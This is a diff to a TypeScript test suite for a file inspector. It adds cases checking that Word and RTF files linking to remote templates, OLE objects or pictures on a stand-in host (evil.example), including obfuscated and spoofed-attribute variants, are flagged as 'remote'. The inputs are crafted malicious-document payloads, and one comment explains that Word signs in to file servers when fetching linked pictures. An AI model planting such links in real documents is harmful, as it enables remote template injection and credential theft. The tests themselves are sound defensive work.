@@ -58,6 +58,8 @@ test.each<[FileKind, Buffer]>([
   ['txt', Buffer.from('Expérience', 'latin1')],
   ['docx', aDocx(aLink('hyperlink', 'https://example.com', 'External'))],
   ['docx', aDocx(aLink('styles', 'styles.xml'))],
+  ['docx', aDocx(aLink('image', 'media/image1.png'))],
+  ['rtf', anRtf('{\\field{\\*\\fldinst INCLUDEPICTURE "photo.png"}}')],
   ['rtf', anRtf('{\\*\\template C:\\\\Users\\\\Ana\\\\Normal.dotm}')],
   ['jpg', aJpg()],
   ['png', aPng()],
@@ -126,6 +128,8 @@ test.each<[FileKind, Buffer, string[]]>([
     ['remote'],
   ],
   ['docx', aDocx(aLink('oleObject', 'file://evil.example/a', 'External', 'document')), ['remote']],
+  // Word fetches a linked picture as it opens, and signs in to a server of files for it.
+  ['docx', aDocx(aLink('image', 'file://evil.example/a.png', 'External', 'document')), ['remote']],
   [
     'docx',
     aDocx(
@@ -136,6 +140,11 @@ test.each<[FileKind, Buffer, string[]]>([
   ],
   ['rtf', anRtf('{\\*\\template https://evil.example/a.dotm}'), ['remote']],
   ['rtf', anRtf('{\\*\\template \\\\\\\\evil.example\\\\a.dotm}'), ['remote']],
+  [
+    'rtf',
+    anRtf('{\\field{\\*\\fldinst INCLUDEPICTURE "https://evil.example/a.png" \\\\d}}'),
+    ['remote'],
+  ],
   ['rtf', anRtf("{\\*\\template \\'68ttps://evil.example/a.dotm}"), ['remote']],
   ['pdf', aPdf('trailer << /Encrypt 5 0 R >>'), ['password']],
   ['rtf', anRtf('{\\object\\objemb}'), ['embedded']],
@@ -285,9 +294,9 @@ test.each([
   },
 )
 
-test('a template from elsewhere is not taken for a picture because its address ends like one', async () => {
+test('a template from elsewhere is not taken for a link because its address ends like one', async () => {
   const template = `<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate"
-    Target="https://evil.example/image" TargetMode="External"/></Relationships>`
+    Target="https://evil.example/hyperlink" TargetMode="External"/></Relationships>`
   expect(
     await inspect(aDocx({ name: 'word/_rels/settings.xml.rels', content: template }), 'docx'),
   ).toEqual({ ok: true, warnings: ['remote'] })
@@ -306,10 +315,10 @@ const aDocxThatLiesAboutPacking = (): Buffer => {
 
 test.each<[string, Buffer, string[]]>([
   [
-    'though its address holds the type of a picture',
+    'though its address holds the type of a link',
     aDocx({
       name: 'word/_rels/a.rels',
-      content: `<Relationship ${template} Target="https://evil.example/a.dotm?Type='/image'"/>`,
+      content: `<Relationship ${template} Target="https://evil.example/a.dotm?Type='/hyperlink'"/>`,
     }),
     ['remote'],
   ],
@@ -322,10 +331,10 @@ test.each<[string, Buffer, string[]]>([
     ['remote'],
   ],
   [
-    'though another attribute, whose name ends alike, says picture',
+    'though another attribute, whose name ends alike, says link',
     aDocx({
       name: 'word/_rels/a.rels',
-      content: `<Relationship x-Type="a/image" ${template} Target="https://evil.example/a.dotm"/>`,
+      content: `<Relationship x-Type="a/hyperlink" ${template} Target="https://evil.example/a.dotm"/>`,
     }),
     ['remote'],
   ],
